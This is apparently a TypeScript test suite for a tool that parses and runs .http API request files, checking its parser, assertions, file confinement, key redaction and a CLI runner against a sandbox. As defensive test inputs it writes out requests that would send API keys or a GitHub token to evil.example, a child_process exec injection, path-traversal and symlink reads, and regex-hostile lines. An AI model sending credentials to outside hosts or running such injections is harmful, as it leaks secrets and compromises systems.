import * as assert from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { main } from '../../src/cli/main';
import type { CliIo } from '../../src/cli/types';
import { HttpClient } from '../../src/core/http/client';
import { checkAssertion, parseAssertion } from '../../src/core/httpFiles/assertions';
import { loadEnvironment, readConfined } from '../../src/core/httpFiles/files';
import { junitXml } from '../../src/core/httpFiles/junit';
import { completionsAt, lintHttpFile } from '../../src/core/httpFiles/lint';
import { parseHttpFile } from '../../src/core/httpFiles/parse';
import { matchEndpoint, routeUrl, runRequest, type RunOptions, type SpendQuestion } from '../../src/core/httpFiles/run';
import { VariableResolver, type SecretRef } from '../../src/core/httpFiles/variables';
import { historyEntryHttpText, toHttpText } from '../../src/core/httpFiles/write';
import { Redactor } from '../../src/core/http/redact';
import { RequestHistory } from '../../src/core/tester/history';
import { memoryState } from './support';
import { SandboxServer } from '../../src/sandbox/server';
import { isFromWebview } from '../../src/core/tester/protocol';

function tmpDir(): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), 'ring-keys-http-'));
}

describe('request files: parser', () => {
  it('reads every construct of the portable syntax', () => {
    const f = parseHttpFile([
      '# @ringKeys profile=Staging',
      '@host = https://prod-api.ringg.ai/ca/api/v0',
      '',
      '### List agents',
      'GET {{host}}/agent/all?limit=5',
      '    &offset=0',
      'x-api-key: {{RINGG_API_KEY}}',
      'Accept: application/json',
      '',
      '?? status == 200',
      '?? js response.parsedBody.agents exists',
      '',
      '###',
      '# @name create',
      '// a comment',
      'POST https://api.ringyo.ai/v1/calls HTTP/1.1',
      'Authorization: Bearer {{RINGYO_API_KEY}}',
      'Content-Type: application/json',
      '',
      '{',
      '  "to": "+14155550123"',
      '}',
      '',
      '### upload',
      '# @ringKeys profile=Other',
      'POST https://example.test/upload',
      'Content-Type: multipart/form-data; boundary=XX',
      '',
      '--XX',
      'Content-Disposition: form-data; name="file"; filename="list.csv"',
      '',
      '< ./list.csv',
      '--XX--',
      '',
      '###',
      'https://example.test/plain',
    ].join('\r\n'));
    assert.deepStrictEqual(f.problems, []);
    assert.strictEqual(f.requests.length, 4);
    const [a, b, c, d] = f.requests;
    assert.strictEqual(a.name, 'List agents');
    assert.strictEqual(a.method, 'GET');
    assert.strictEqual(a.url, '{{host}}/agent/all?limit=5&offset=0');
    assert.strictEqual(a.line, 4);
    assert.deepStrictEqual(a.headers.map(h => [h.name, h.value]), [['x-api-key', '{{RINGG_API_KEY}}'], ['Accept', 'application/json']]);
    assert.deepStrictEqual(a.body, []);
    assert.deepStrictEqual(a.assertions.map(x => x.text), ['?? status == 200', '?? js response.parsedBody.agents exists']);
    assert.strictEqual(a.profile, 'Staging', 'the file\'s profile applies to a request that names none');
    assert.strictEqual(f.variables[0].name, 'host');
    assert.strictEqual(a.variablesBefore, 1);
    assert.strictEqual(b.name, 'create');
    assert.strictEqual(b.url, 'https://api.ringyo.ai/v1/calls', 'HTTP/1.1 is not part of the URL');
    assert.deepStrictEqual(b.body, [{ kind: 'text', text: '{\n  "to": "+14155550123"\n}' }]);
    assert.strictEqual(c.profile, 'Other');
    assert.deepStrictEqual(c.body.map(p => p.kind), ['text', 'file', 'text']);
    assert.deepStrictEqual(c.body[1], { kind: 'file', path: './list.csv', line: 31 });
    assert.strictEqual(d.method, 'GET');
    assert.strictEqual(d.url, 'https://example.test/plain');
  });

  it('a later file variable wins, and a request sees only the variables above it', () => {
    const f = parseHttpFile('@a = 1\nGET https://x.test/{{a}}\n###\n@a = 2\nGET https://x.test/{{a}}\n');
    assert.deepStrictEqual(f.requests.map(r => r.variablesBefore), [1, 2]);
  });

  it('malformed requests are reported with their line number; the other requests still parse', () => {
    const f = parseHttpFile([
      'FETCH https://x.test',           // 1: unknown method
      '###',
      'GET https://x.test/a',
      'not a header line',               // 4
      '###',
      'GET https://x.test/b',
      '',
      '?? status === 200',               // 8: unknown operator
      '###',
      'GET https://x.test/c',
      '',
      '> {% client.global.set("x", 1) %}', // 12: a script
      '###',
      'GET https://x.test/ok',
      '###',
      'GET https://x.test/d',
      '',
      '?? js require("child_process").exec("x") == 1', // 18: not a property path
      '###',
      'this is prose',                   // 20
    ].join('\n'));
    assert.deepStrictEqual(f.problems.map(p => p.line + 1), [1, 4, 8, 12, 18, 20]);
    assert.match(f.problems[0].message, /FETCH is not supported/);
    assert.match(f.problems[1].message, /Expected a header/);
    assert.match(f.problems[3].message, /not run/);
    assert.match(f.problems[4].message, /property path/);
    assert.deepStrictEqual(f.requests.map(r => r.url), ['https://x.test/ok']);
  });

  it('a binary file is one clear problem, not garbage requests', () => {
    const f = parseHttpFile('GET https://x.test\n\u0000\u0001\u0002PNG');
    assert.strictEqual(f.requests.length, 0);
    assert.match(f.problems[0].message, /binary/);
  });

  it('a 10 MiB file and regex-hostile lines parse in bounded time', () => {
    const one = 'GET https://prod-api.ringg.ai/ca/api/v0/agent/all\nx-api-key: {{RINGG_API_KEY}}\n\n?? status == 200\n\n###\n';
    const big = one.repeat(Math.ceil(10 * 1024 * 1024 / one.length));
    // bounded relative to one pass over the same lines (the runners are shared and their speed varies tenfold)
    let t = Date.now();
    let seps = 0;
    for (const line of big.split(/\r?\n/)) { if (/^###/.test(line.trim())) { seps++; } }
    const passMs = Math.max(50, Date.now() - t);
    t = Date.now();
    const f = parseHttpFile(big);
    const bigMs = Date.now() - t;
    assert.strictEqual(f.requests.length, seps);
    assert.ok(bigMs < 25 * passMs && bigMs < 60_000, `10 MiB parsed in ${bigMs} ms (one pass over its lines: ${passMs} ms)`);
    const hostile = [
      `GET https://x.test/${'{{'.repeat(200_000)}`,
      `X-A: ${' '.repeat(300_000)}a`,
      '',
      `?? js response.parsedBody${'.a'.repeat(100_000)}[ == 1`,
      '###',
      `@v ${'= '.repeat(200_000)}`,
      `GET ${'a '.repeat(200_000)}`,
      '###',
      `# @name ${'#'.repeat(500_000)}`,
      `${'?'.repeat(400_000)}`,
    ].join('\n');
    t = Date.now();
    const h = parseHttpFile(hostile);
    const hostileMs = Date.now() - t;
    assert.ok(hostileMs < 25 * passMs && hostileMs < 20_000, `hostile lines parsed in ${hostileMs} ms`);
    assert.ok(h.problems.length >= 1);
  });
});

describe('request files: variables', () => {
  const resolver = (vars: Array<[string, string]>, env: Record<string, string> = {}, secrets: Record<string, string> = {}) => new VariableResolver({
    fileVariables: vars.map(([name, value], line) => ({ name, value, line })), environment: env,
    secret: async (ref: SecretRef) => secrets[ref.kind === 'key' ? ref.variable : ref.name],
  });

  it('file variables win over the environment; values nest; keys come from the resolver and are tracked', async () => {
    const r = resolver([['host', 'https://{{domain}}'], ['token', '{{RINGG_API_KEY}}']], { host: 'https://env.test', domain: 'prod-api.ringg.ai', agent: 'a1' },
      { RINGG_API_KEY: 'K-123', CI_VALUE: 'v' });
    const out = await r.resolve('{{host}}/x/{{ agent }}?k={{token}}&e={{$processEnv CI_VALUE}}');
    assert.strictEqual(out.text, 'https://prod-api.ringg.ai/x/a1?k=K-123&e=v');
    assert.deepStrictEqual(out.secrets.map(s => s.ref.kind === 'key' ? s.ref.variable : s.ref.name), ['RINGG_API_KEY', 'CI_VALUE']);
  });

  it('names what is missing, cycles and expressions; a key variable cannot be defined in a file', async () => {
    await assert.rejects(resolver([]).resolve('{{nope}}'), /\{\{nope\}\} is not defined/);
    await assert.rejects(resolver([['a', '{{b}}'], ['b', '{{a}}']]).resolve('{{a}}'), /cycle: a → b → a/);
    await assert.rejects(resolver([]).resolve('{{ Date.now() }}'), /not a variable name.*never evaluated/);
    await assert.rejects(resolver([]).resolve('{{RINGYO_API_KEY}}'), /No Ringyo AI key for \{\{RINGYO_API_KEY\}\}/);
    await assert.rejects(resolver([]).resolve('{{$processEnv HOME_X}}'), /\$processEnv HOME_X is not set/);
    assert.throws(() => resolver([['RINGG_API_KEY', 'x']]), /key variable.*never from a file/);
  });

  it('a variable that doubles itself is stopped, not expanded without bound', async () => {
    const vars: Array<[string, string]> = [['v0', 'xxxxxxxxxxxxxxxx']];
    for (let i = 1; i < 26; i++) { vars.push([`v${i}`, `{{v${i - 1}}}{{v${i - 1}}}`]); }
    const t = Date.now();
    await assert.rejects(resolver(vars).resolve('{{v25}}'), /grew past/);
    assert.ok(Date.now() - t < 3000);
  });
});

describe('request files: assertions', () => {
  const facts = { status: 201, headers: { 'content-type': 'application/json; charset=utf-8' }, durationMs: 120,
    json: { data: { agents: [{ id: 'a1', n: 3 }], ok: true, none: null } } };
  const check = (line: string) => {
    const a = parseAssertion(line, 0);
    assert.ok(!('error' in a), JSON.stringify(a));
    return checkAssertion(a, facts).pass;
  };

  it('checks status, header, duration and property paths with every operator', () => {
    assert.strictEqual(check('?? status == 201'), true);
    assert.strictEqual(check('?? status != 201'), false);
    assert.strictEqual(check('?? status >= 200'), true);
    assert.strictEqual(check('?? status < 300'), true);
    assert.strictEqual(check('?? status > 201'), false);
    assert.strictEqual(check('?? status <= 200'), false);
    assert.strictEqual(check('?? header Content-Type includes json'), true);
    assert.strictEqual(check('?? header x-missing exists'), false);
    assert.strictEqual(check('?? duration < 500'), true);
    assert.strictEqual(check('?? duration < 100'), false);
    assert.strictEqual(check('?? js response.parsedBody.data.agents[0].id == a1'), true);
    assert.strictEqual(check('?? js response.parsedBody.data.agents[0]["n"] == 3'), true);
    assert.strictEqual(check('?? js response.parsedBody.data.agents.length == 1'), true);
    assert.strictEqual(check('?? js response.parsedBody.data.ok == true'), true);
    assert.strictEqual(check('?? js response.parsedBody.data.none exists'), false);
    assert.strictEqual(check('?? js response.parsedBody.data.missing exists'), false);
    assert.strictEqual(check('?? js response.parsedBody.data exists'), true);
    assert.strictEqual(check('?? js response.parsedBody.data includes agents'), true);
    assert.strictEqual(check('?? js response.statusCode == 201'), true);
    assert.strictEqual(check('?? js response.parsedBody.data.agents[0].constructor exists'), false, 'only own properties');
  });

  it('refuses anything that is not a property path', () => {
    for (const bad of ['?? js process.exit(1) == 1', '?? js response.parsedBody.a + 1 == 2', '?? js response.parsedBody[`x`] == 1',
      '?? js globalThis.x exists', '?? body == 1', '?? status', '?? status == ', '?? status exists 3']) {
      assert.ok('error' in parseAssertion(bad, 0), bad);
    }
  });
});

describe('request files: files next to the request file', () => {
  it('reads a part inside the folder; refuses .., absolute paths and symbolic links', async () => {
    const root = tmpDir();
    const dir = path.join(root, 'requests');
    fs.mkdirSync(path.join(dir, 'data'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'data', 'list.csv'), 'name,phone\n');
    fs.writeFileSync(path.join(root, 'secret.txt'), 'outside');
    fs.symlinkSync(path.join(root, 'secret.txt'), path.join(dir, 'link.txt'));
    fs.symlinkSync(root, path.join(dir, 'up'));
    try {
      assert.strictEqual((await readConfined(dir, './data/list.csv')).toString(), 'name,phone\n');
      await assert.rejects(readConfined(dir, '../secret.txt'), /outside the request file's folder/);
      await assert.rejects(readConfined(dir, path.join(root, 'secret.txt')), /relative path/);
      await assert.rejects(readConfined(dir, './link.txt'), /symbolic link/);
      await assert.rejects(readConfined(dir, './up/secret.txt'), /symbolic link/);
      await assert.rejects(readConfined(dir, 'data/../../secret.txt'), /outside/);
      await assert.rejects(readConfined('', './data/list.csv'), /save the request file first/);
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });

  it('takes public values from http-client.env.json, never a key, never the private file', async () => {
    const dir = tmpDir();
    try {
      fs.writeFileSync(path.join(dir, 'http-client.private.env.json'), JSON.stringify({ dev: { agent: 'private' } }));
      fs.writeFileSync(path.join(dir, 'http-client.env.json'), JSON.stringify({ $shared: { a: 'shared', agent: 's' }, dev: { agent: 'dev1', n: 5, nested: { x: 1 } } }));
      assert.deepStrictEqual(await loadEnvironment(dir, 'dev'), { a: 'shared', agent: 'dev1', n: '5' });
      assert.deepStrictEqual(await loadEnvironment(dir, undefined), { a: 'shared', agent: 's' });
      await assert.rejects(loadEnvironment(dir, 'prod'), /"prod" is not in http-client.env.json \(it has: dev\)/);
      fs.writeFileSync(path.join(dir, 'http-client.env.json'), JSON.stringify({ dev: { RINGG_API_KEY: 'x' } }));
      await assert.rejects(loadEnvironment(dir, 'dev'), /holds RINGG_API_KEY: keys never go in env files/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('request files: where keys go (against the sandbox)', () => {
  let sb: SandboxServer;
  before(async () => { sb = await SandboxServer.start(); });
  after(() => sb.close());
  beforeEach(() => sb.reset());

  const run = async (text: string, opts: Partial<RunOptions> & { keys?: Record<string, string> } = {}) => {
    const file = parseHttpFile(text);
    assert.deepStrictEqual(file.problems, []);
    const questions: SpendQuestion[] = [];
    const http = new HttpClient();
    const o = await runRequest(file, file.requests[0], {
      http, dir: os.tmpdir(), baseUrls: sb.baseUrls, environment: {},
      secret: async ref => (opts.keys ?? { RINGG_API_KEY: sb.ringgKey, RINGYO_API_KEY: sb.keys.ringyoLive })[ref.kind === 'key' ? ref.variable : ref.name],
      confirm: async q => { questions.push(q); return false; },
      ...opts,
    });
    return { o, questions };
  };

  it('maps the documented base URL to the configured one and sends the key there; answers are redacted', async () => {
    const { o } = await run('GET https://prod-api.ringg.ai/ca/api/v0/workspace\nx-api-key: {{RINGG_API_KEY}}\n\n?? status == 200\n?? js response.parsedBody.workspace_info.api_key == nope\n');
    assert.strictEqual(o.status, 200);
    assert.strictEqual(o.state, 'failed');
    assert.strictEqual(o.assertions[0].pass, true);
    assert.ok(!o.assertions[1].actual.includes(sb.ringgKey), 'the echoed key is redacted in what the assertion found');
    assert.strictEqual(sb.requests.at(-1)?.headers['x-api-key'], sb.ringgKey);
    assert.strictEqual(o.provider, 'ringg');
  });

  it('refuses a key bound for another provider or any other host, through variables too; nothing is sent', async () => {
    const cases = [
      'GET https://api.ringyo.ai/v1/agents\nx-api-key: {{RINGG_API_KEY}}\n',
      '@auth = {{RINGG_API_KEY}}\nGET https://evil.example/collect?k={{auth}}\n',
      'POST https://evil.example/\n\n{"k": "{{$processEnv RINGYO_API_KEY}}"}\n',
      'GET https://evil.example/\nX-Token: {{$processEnv GITHUB_TOKEN}}\n',
      'GET https://prod-api.ringg.ai.evil.example/ca/api/v0/workspace\nx-api-key: {{RINGG_API_KEY}}\n',
    ];
    for (const text of cases) {
      const { o } = await run(text, { keys: { RINGG_API_KEY: sb.ringgKey, RINGYO_API_KEY: sb.keys.ringyoLive, GITHUB_TOKEN: 'ghp_secretvalue123' } });
      assert.strictEqual(o.state, 'refused', text);
      assert.match(o.message!, /Nothing was sent/);
      assert.ok(!o.message!.includes(sb.ringgKey) && !o.message!.includes('ghp_secretvalue123'));
    }
    assert.strictEqual(sb.requests.length, 0);
  });

  it('asks before a credit-spending request; a refusal sends nothing; the rotation endpoint is never sent', async () => {
    const call = `POST https://prod-api.ringg.ai/ca/api/v0/calling/outbound/individual\nx-api-key: {{RINGG_API_KEY}}\nContent-Type: application/json\n\n{"name":"A","mobile_number":"+14155550123","agent_id":"x","from_number":"+14155550100"}\n\n?? status == 200\n`;
    const before = sb.ringgCredits;
    const { o, questions } = await run(call);
    assert.strictEqual(o.state, 'refused');
    assert.strictEqual(questions[0].risk, 'spends');
    assert.strictEqual(questions[0].key, `…${sb.ringgKey.slice(-4)}`);
    assert.strictEqual(sb.requests.length, 0);
    const yes = await run(call, { confirm: async () => true });
    assert.strictEqual(yes.o.state, 'passed', yes.o.message);
    assert.ok(sb.ringgCredits < before);
    const rot = await run('PATCH https://prod-api.ringg.ai/ca/api/v0/workspace/api-key\nx-api-key: {{RINGG_API_KEY}}\n', { confirm: async () => true });
    assert.strictEqual(rot.o.state, 'refused');
    assert.match(rot.o.message!, /Rotate Key/);
    const unknown = await run('POST https://prod-api.ringg.ai/ca/api/v0/not/in/catalogue\nx-api-key: {{RINGG_API_KEY}}\n');
    assert.strictEqual(unknown.questions[0].unknownEndpoint, true);
  });

  it('sends a multipart body with a file part byte for byte', async () => {
    const dir = tmpDir();
    const bytes = Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x0a, 0x00, 0xff, 0x10]);
    fs.writeFileSync(path.join(dir, 'list.csv'), bytes);
    try {
      const seen: Buffer[] = [];
      const { MockAgent } = await import('undici');
      const agent = new MockAgent();
      agent.disableNetConnect();
      agent.get('https://upload.example').intercept({ path: '/u', method: 'POST' }).reply(200, (opts) => {
        seen.push(Buffer.from(opts.body as Uint8Array));
        return { ok: true };
      });
      const file = parseHttpFile('POST https://upload.example/u\nContent-Type: multipart/form-data; boundary=B\n\n--B\nContent-Disposition: form-data; name="f"; filename="list.csv"\n\n< ./list.csv\n--B--\n');
      const o = await runRequest(file, file.requests[0], {
        http: new HttpClient({ dispatcher: agent }), dir, baseUrls: {}, environment: {},
        secret: async () => undefined, confirm: async () => false,
      });
      assert.strictEqual(o.state, 'passed', o.message);
      const expected = Buffer.concat([Buffer.from('--B\r\nContent-Disposition: form-data; name="f"; filename="list.csv"\r\n\r\n'), bytes, Buffer.from('\r\n--B--')]);
      assert.deepStrictEqual(seen[0], expected);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('Save as .http writes the key as a variable, never the key; the file parses back and runs against the sandbox', async () => {
    const redactor = new HttpClient().redactor;
    redactor.add(sb.ringgKey);
    const text = toHttpText({
      provider: 'ringg', name: 'my call', title: 'Place one\noutbound call',
      request: { method: 'POST', path: '/calling/outbound/individual', body: JSON.stringify({ name: 'A', mobile_number: '+14155550123', agent_id: 'x', from_number: '+14155550100', note: `${sb.ringgKey} ### ?? x` }) },
      headers: { 'Idempotency-Key': 'abc', 'x-api-key': sb.ringgKey }, redact: t => redactor.text(t),
    });
    assert.ok(!text.includes(sb.ringgKey));
    assert.match(text, /^### Place one outbound call\n# @name my-call\nPOST https:\/\/prod-api.ringg.ai\/ca\/api\/v0\/calling\/outbound\/individual\nx-api-key: \{\{RINGG_API_KEY\}\}/);
    const { o } = await run(text, { confirm: async () => true });
    assert.deepStrictEqual(parseHttpFile(text).problems, []);
    assert.strictEqual(o.state, 'passed', o.message);
    assert.strictEqual(sb.requests.at(-1)?.headers['idempotency-key'], 'abc');
  });

  it('"Copy as .http" on a history entry writes the request as it was sent, never a key: not the one in the form, nor one known only later', async () => {
    const ringyoKey = sb.keys.ringyoLive;
    const stored = new Redactor();
    stored.add(sb.ringgKey);
    const history = new RequestHistory(memoryState(), stored);
    const entry = (endpointId: string, method: string, p: string, form: Partial<{ path: Record<string, string>; query: Record<string, string>; body: string }>) =>
      history.add({ provider: 'ringg', profileLabel: 'Work (…abcd)', endpointId, method, path: p, status: 200,
        form: { provider: 'ringg', endpointId, path: form.path ?? {}, query: form.query ?? {}, body: form.body } });
    const info = await entry('ringg.workspace.info', 'GET', '/workspace', {});
    const pasted = await entry('ringg.agents.get', 'GET', `/agent/${sb.ringgKey}`, { path: { agent_id: sb.ringgKey } });
    const call = await entry('ringg.calls.outbound', 'POST', '/calling/outbound/individual', { body: JSON.stringify({
      name: 'A', mobile_number: '+14155550123', agent_id: 'x', from_number: '+14155550100', custom_args_values: { note: `ask ${ringyoKey}`, api_key: 'abc' } }) });
    // the Ringyo key was not known when the entry was stored; it is when the entry is copied
    const now = new Redactor();
    now.add(sb.ringgKey);
    now.add(ringyoKey);
    const copy = (id: string) => {
      const out = historyEntryHttpText(history.get(id)!, t => now.text(t));
      assert.ok(out.ok, JSON.stringify(out));
      return out.text;
    };
    const texts = [copy(info.id), copy(pasted.id), copy(call.id)];
    for (const t of texts) {
      assert.ok(!t.includes(sb.ringgKey) && !t.includes(ringyoKey), t);
      assert.match(t, /^x-api-key: \{\{RINGG_API_KEY\}\}$/m);
      assert.deepStrictEqual(parseHttpFile(t).problems, []);
    }
    assert.match(texts[0], /^### Workspace info \(the documented key check\)\n# @name info\nGET https:\/\/prod-api\.ringg\.ai\/ca\/api\/v0\/workspace$/m);
    assert.match(texts[1], /^GET https:\/\/prod-api\.ringg\.ai\/ca\/api\/v0\/agent\/%5BREDACTED%5D$/m);
    assert.match(texts[2], /"note": "ask \[REDACTED\]"/);
    assert.match(texts[2], /"api_key": "\[REDACTED\]"/);
    // the copied file runs: the workspace entry against the sandbox, the key from the resolver
    const { o } = await run(texts[0]);
    assert.strictEqual(o.state, 'passed', o.message);
    // an entry whose endpoint left the catalogue is not copied
    const gone = await entry('ringg.no.such', 'GET', '/gone', {});
    assert.deepStrictEqual(historyEntryHttpText(history.get(gone.id)!), { ok: false, errors: [] });
    assert.ok(isFromWebview({ type: 'copyHistoryHttp', id: info.id }));
    assert.ok(!isFromWebview({ type: 'copyHistoryHttp' }));
  });

  it('the tester\'s "Save as .http" message is checked like its others', () => {
    assert.ok(isFromWebview({ type: 'saveHttp', form: { provider: 'ringg', endpointId: 'ringg.workspace.info', path: {}, query: {} } }));
    assert.ok(!isFromWebview({ type: 'saveHttp', form: { provider: 'elsewhere', endpointId: 'x', path: {}, query: {} } }));
    assert.ok(!isFromWebview({ type: 'saveHttp' }));
  });

  it('routes by base URL, and matches catalogue endpoints with path parameters', () => {
    assert.deepStrictEqual(routeUrl('https://api.ringyo.ai/v1/agents?limit=1', {}), { url: 'https://api.ringyo.ai/v1/agents?limit=1', provider: 'ringyo', relative: '/agents?limit=1' });
    assert.strictEqual(routeUrl('https://api.ringyo.ai/v10/agents', {}).provider, undefined);
    assert.strictEqual(matchEndpoint('ringg', 'GET', '/agent/voices')?.id, 'ringg.agents.voices');
    assert.strictEqual(matchEndpoint('ringg', 'GET', '/agent/abc')?.id, 'ringg.agents.get');
    assert.strictEqual(matchEndpoint('ringg', 'DELETE', '/agent/abc')?.risk, 'irreversible');
  });
});

describe('request files: editor diagnostics and completions', () => {
  it('flags an unknown endpoint, a missing required parameter and a key next to another provider\'s address', async () => {
    const f = parseHttpFile([
      '@ringyo = https://api.ringyo.ai/v1',
      'GET {{ringyo}}/agents',                                    // 2: fine
      'Authorization: Bearer {{RINGYO_API_KEY}}',
      '###',
      'GET {{ringyo}}/no-such-thing',                             // 5: unknown endpoint
      'Authorization: Bearer {{RINGYO_API_KEY}}',
      '###',
      'GET {{ringyo}}/agents',                                    // 8: a Ringg key to Ringyo
      'x-api-key: {{RINGG_API_KEY}}',
      '###',
      'GET https://prod-api.ringg.ai/ca/api/v0/calling/call-details', // 11: id is required
      'x-api-key: {{$processEnv RINGG_API_KEY}}',
      '###',
      'GET https://hooks.example/in?k={{RINGTONIC_API_KEY}}',     // 14: a key to another host
      '###',
      'GET https://x.test',
      'bad header',                                              // 17: parse
    ].join('\n'));
    const findings = await lintHttpFile(f);
    assert.deepStrictEqual(findings.map(x => [x.line + 1, x.code]), [
      [5, 'unknownEndpoint'], [8, 'keyForOtherHost'], [11, 'missingQueryParam'], [14, 'keyForOtherHost'], [17, 'parse']]);
    assert.match(findings[1].message, /Ringg AI key: it is only sent to https:\/\/prod-api.ringg.ai\/ca\/api\/v0.*not to api.ringyo.ai/);
  });

  it('completes key variables and file variables after {{, catalogue endpoints on a request line', () => {
    const vars = completionsAt('x-api-key: {{RI', ['host', 'host', 'RINGG_API_KEY']);
    assert.deepStrictEqual(vars.map(c => c.label), ['RINGG_API_KEY', 'RINGYO_API_KEY', 'RINGTONIC_API_KEY', 'host']);
    assert.strictEqual(vars[0].insert, 'RINGG_API_KEY}}');
    assert.strictEqual(vars[0].replace, 2);
    const urls = completionsAt('GET https://api.ringyo.ai/v1/ag', []);
    assert.ok(urls.some(c => c.insert.startsWith('https://api.ringyo.ai/v1/agents')));
    assert.ok(urls.every(c => c.label.startsWith('https://api.ringyo.ai/v1/ag')));
    assert.ok(!completionsAt('PATCH ', []).some(c => c.label.endsWith('/workspace/api-key')), 'the rotation endpoint is not offered');
    assert.deepStrictEqual(completionsAt('Accept: json', []), []);
  });
});

describe('request files: JUnit', () => {
  it('escapes what XML cannot hold and counts failures and errors', () => {
    const xml = junitXml([{ file: 'a&b.http', outcomes: [
      { name: 'x<y>"\'', line: 0, state: 'failed', label: 'GET https://x', status: 500, durationMs: 1500, assertions: [
        { assertion: { text: '?? status == 200', line: 3, subject: { kind: 'status' }, op: '==', expected: '200' }, pass: false, actual: '500\u0000\u001b' }] },
      { name: 'r', line: 5, state: 'refused', label: 'GET https://y', assertions: [], message: 'no' },
      { name: 'ok', line: 9, state: 'passed', label: 'GET https://z', status: 200, durationMs: 5, assertions: [] },
    ] }]);
    assert.match(xml, /<testsuite name="a&amp;b.http" tests="3" failures="1" errors="1"/);
    assert.match(xml, /name="x&lt;y&gt;&quot;&apos;"/);
    assert.match(xml, /line 4: \?\? status == 200 \(got 500\uFFFD\uFFFD\)/);
    assert.match(xml, /time="1.500"/);
    // eslint-disable-next-line no-control-regex
    assert.ok(!/[\u0000-\u0008\u001b]/.test(xml));
  });
});

describe('ring-keys http run', () => {
  let sb: SandboxServer;
  let dir: string;
  before(async () => { sb = await SandboxServer.start(); });
  after(() => sb.close());
  beforeEach(() => { sb.reset(); dir = tmpDir(); });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  function io(env: Record<string, string>): CliIo & { out: string; err: string } {
    const r = {
      out: '', err: '', env, cwd: dir,
      stdout(s: string) { r.out += s; }, stderr(s: string) { r.err += s; },
      stdin: async () => '', onSignal() { /* not used */ },
    };
    return r;
  }
  const baseArgs = () => ['--ringg-base-url', sb.baseUrls.ringg, '--ringyo-base-url', sb.baseUrls.ringyo];
  const cli = async (args: string[], env: Record<string, string> = { RINGG_API_KEY: sb.ringgKey, RINGYO_API_KEY: sb.keys.ringyoLive }) => {
    const h = io(env);
    const code = await main(['http', 'run', ...args], h);
    return { code, out: h.out, err: h.err };
  };
  const SMOKE = [
    '### workspace',
    'GET https://prod-api.ringg.ai/ca/api/v0/workspace',
    'x-api-key: {{RINGG_API_KEY}}',
    '',
    '?? status == 200',
    '?? js response.parsedBody.workspace_info.name == {{name}}',
    '',
    '### agents',
    'GET https://api.ringyo.ai/v1/agents?limit=1',
    'Authorization: Bearer {{$processEnv RINGYO_API_KEY}}',
    '',
    '?? status == 200',
    '?? header content-type includes json',
  ].join('\n');

  it('exit 0 when every assertion passes; a JUnit report; the keys printed nowhere', async () => {
    fs.writeFileSync(path.join(dir, 'smoke.http'), SMOKE.replace('{{name}}', 'Sandbox Workspace'));
    const r = await cli(['smoke.http', ...baseArgs(), '--junit', 'report.xml']);
    assert.strictEqual(r.code, 0, r.out + r.err);
    assert.match(r.out, /ok {3}workspace/);
    assert.match(r.out, /2 request\(s\): 2 passed/);
    const xml = fs.readFileSync(path.join(dir, 'report.xml'), 'utf8');
    assert.match(xml, /<testsuite name="smoke.http" tests="2" failures="0" errors="0"/);
    for (const text of [r.out, r.err, xml]) {
      assert.ok(!text.includes(sb.ringgKey) && !text.includes(sb.keys.ringyoLive));
    }
  });

  it('exit 1 when an assertion fails, with the line and what was found; --env picks public values', async () => {
    fs.writeFileSync(path.join(dir, 'smoke.http'), SMOKE);
    fs.writeFileSync(path.join(dir, 'http-client.env.json'), JSON.stringify({ dev: { name: 'Another Workspace' }, sandbox: { name: 'Sandbox Workspace' } }));
    const bad = await cli(['.', ...baseArgs(), '--env', 'dev', '--junit', 'r.xml']);
    assert.strictEqual(bad.code, 1, bad.out + bad.err);
    assert.match(bad.out, /FAIL workspace[\s\S]*line 6: \?\? js response.parsedBody.workspace_info.name == \{\{name\}\} \(got Sandbox Workspace\)/);
    assert.match(fs.readFileSync(path.join(dir, 'r.xml'), 'utf8'), /<failure /);
    const good = await cli([dir, ...baseArgs(), '--env', 'sandbox', '--name', 'workspace']);
    assert.strictEqual(good.code, 0, good.out + good.err);
    assert.match(good.out, /1 request\(s\): 1 passed/);
  });

  it('exit 2 for a refused request (a key for another host): nothing sent; --bail stops there', async () => {
    fs.writeFileSync(path.join(dir, 'a.http'), 'GET https://collector.example/x\nx-api-key: {{RINGG_API_KEY}}\n\n###\nGET https://prod-api.ringg.ai/ca/api/v0/workspace\nx-api-key: {{RINGG_API_KEY}}\n');
    const r = await cli(['a.http', ...baseArgs(), '--bail']);
    assert.strictEqual(r.code, 2);
    assert.match(r.out, /REFUSED[\s\S]*only sent to/);
    assert.match(r.out, /1 request\(s\)/);
    assert.strictEqual(sb.requests.length, 0);
  });

  it('credit-spending requests need --allow-spend', async () => {
    fs.writeFileSync(path.join(dir, 'call.http'), [
      'POST https://prod-api.ringg.ai/ca/api/v0/calling/outbound/individual',
      'x-api-key: {{RINGG_API_KEY}}',
      'Content-Type: application/json',
      '',
      '{"name":"A","mobile_number":"+14155550123","agent_id":"x","from_number":"+14155550100"}',
      '',
      '?? status == 200',
    ].join('\n'));
    const no = await cli(['call.http', ...baseArgs()]);
    assert.strictEqual(no.code, 2);
    assert.match(no.out, /spends credits/);
    assert.strictEqual(sb.requests.length, 0);
    const yes = await cli(['call.http', ...baseArgs(), '--allow-spend']);
    assert.strictEqual(yes.code, 0, yes.out + yes.err);
    assert.strictEqual(sb.requests.length, 1);
  });

  it('the demo workspace\'s requests.http passes against the sandbox from the first run', async () => {
    const demo = path.join(__dirname, '..', '..', '..', 'tools', 'demo-workspace', 'requests.http');
    const r = await cli([demo, ...baseArgs()]);
    assert.strictEqual(r.code, 0, r.out + r.err);
    assert.match(r.out, /3 request\(s\): 3 passed/);
  });

  it('usage errors: no files, a base URL that may not receive keys, a file that does not parse', async () => {
    assert.strictEqual((await cli([])).code, 2);
    const bad = await cli(['x.http', '--ringg-base-url', 'https://evil.example']);
    assert.strictEqual(bad.code, 2);
    assert.match(bad.err, /ringg\.ai hosts or loopback/);
    fs.writeFileSync(path.join(dir, 'broken.http'), 'GET https://x.test\nnot a header\n');
    const broken = await cli(['broken.http']);
    assert.strictEqual(broken.code, 2);
    assert.match(broken.err, /broken.http:line 2: Expected a header/);
  });
});
